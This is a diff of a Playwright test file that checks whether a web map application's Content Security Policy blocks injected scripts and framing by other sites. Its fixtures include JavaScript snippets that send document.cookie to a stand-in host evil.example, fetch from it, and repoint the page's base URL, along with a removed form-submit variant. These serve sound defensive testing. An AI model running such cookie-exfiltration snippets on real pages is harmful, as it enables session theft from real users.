@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-from typing import Any
-
 import pytest
 from playwright.sync_api import Frame, Page
 
@@ -40,12 +38,6 @@ _FRAMED = """() => {
 }"""
 _PICTURE = """() => { new Image().src = 'https://evil.example/?' + document.cookie; }"""
 _FETCH = """() => { fetch('https://evil.example/?secret').catch(() => {}); }"""
-_SENT = """() => {
-  const form = document.createElement('form');
-  form.action = 'https://evil.example/';
-  document.body.append(form);
-  form.submit();
-}"""
 _BASE = """() => {
   const base = document.createElement('base');
   base.href = 'https://evil.example/';
@@ -58,7 +50,6 @@ _ATTACKS = {
     "frame-src": _FRAMED,
     "img-src": _PICTURE,
     "connect-src": _FETCH,
-    "form-action": _SENT,
     "base-uri": _BASE,
 }
 
@@ -80,10 +71,10 @@ def test_the_whole_page_works_within_its_policy(visit: Visit) -> None:
     reader = _watched(visit, "event=eu-summit")
     page = reader.page
     reader.until("seen.mapped.length > 0 && seen.opened")
+    reader.in_map(".cm-symbol").first.hover()
     reader.drag_map(-120, 60)
     reader.in_map(".leaflet-control-zoom-out").click()
     reader.in_map(".cm-legend-handle").click()
-    reader.symbol("Brussels").hover()
     reader.choose("types", "Statement")
     reader.until("seen.address.includes('type=statement')")
     reader.type_into("from", "2016-12-15")
@@ -122,38 +113,35 @@ def test_an_online_base_map_is_allowed_once_it_is_chosen(visit: Visit) -> None:
     assert _violations(reader) == []
 
 
-@pytest.mark.parametrize("directive", list(_ATTACKS))
 @pytest.mark.parametrize("within", ["page", "map"])
-def test_what_is_injected_neither_runs_nor_reaches_anybody(
-    visit: Visit, directive: str, within: str
-) -> None:
+def test_what_is_injected_neither_runs_nor_reaches_anybody(visit: Visit, within: str) -> None:
     reader = _watched(visit)
+    reached: list[str] = []
+    reader.page.on("response", lambda answer: reached.append(answer.url))
     where: Page | Frame = reader.page if within == "page" else reader.frame
     where.evaluate(_LISTEN)
-    where.evaluate(_ATTACKS[directive])
-    refused = "(start) => window.violations.some((each) => each.startsWith(start))"
-    if within == "map" and directive == "frame-src":
-        refused = "() => window.violations.some((each) => each.startsWith('frame-src'))"
-    assert wait_in(where, refused, directive), where.evaluate("window.violations")
+    reached.clear()
+    for directive, attack in _ATTACKS.items():
+        where.evaluate(attack)
+        refused = "(start) => window.violations.some((each) => each.startsWith(start))"
+        assert wait_in(where, refused, directive), where.evaluate("window.violations")
     assert where.evaluate("window.hacked") is None
-    assert reader.watch.foreign == []
-    reader.watch.errors.clear()  # the browser says what it refused, as it should
+    assert reader.now()["failed"] is False
+    foreign = {
+        request.url: request.failure for request in reader.page.requests() if "evil" in request.url
+    }
+    assert set(foreign.values()) <= {"csp"}, foreign
+    assert not [url for url in reached if "evil" in url]
+    reader.watch.foreign.clear()  # what was refused never left the browser,
+    reader.watch.errors.clear()  # which says so
 
 
 def test_the_page_stands_in_no_other_sites_frame(visit: Visit, server: Server) -> None:
     reader = visit()
     other = reader.page.context.new_page()
-    port = server.base.rpartition(":")[2]
-    other.route(
-        "http://other.localhost/**",
-        lambda route: route.fulfill(
-            content_type="text/html", body=f'<iframe src="http://localhost:{port}/"></iframe>'
-        ),
-    )
-    said: list[Any] = []
+    said: list[str] = []
     other.on("console", lambda message: said.append(message.text))
-    other.goto("http://other.localhost/")
-    refused = "() => document.querySelector('iframe').contentDocument === null"
-    assert wait_in(other, refused)
-    assert any("frame-ancestors" in text for text in said), said
+    with other.expect_event("console", lambda message: "frame-ancestors" in message.text):
+        other.set_content(f'<iframe src="{server.base}/"></iframe>')
+    assert other.frames[-1].url.startswith("chrome-error:")
     other.close()
